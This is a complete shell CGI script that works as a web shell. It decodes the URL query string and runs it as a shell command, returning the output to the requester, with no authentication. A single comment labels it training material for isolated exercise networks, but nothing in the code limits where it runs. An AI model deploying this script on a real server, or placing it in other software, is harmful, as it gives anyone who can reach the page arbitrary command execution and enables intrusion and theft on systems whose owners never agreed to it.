#!/bin/sh
# Training material: it answers only inside the exercise's isolated networks.
printf 'Content-Type: text/plain\r\n\r\n'
[ -n "$QUERY_STRING" ] && sh -c "$(printf '%b' "$(printf '%s' "$QUERY_STRING" | sed 's/+/ /g; s/%/\\x/g')")" 2>&1
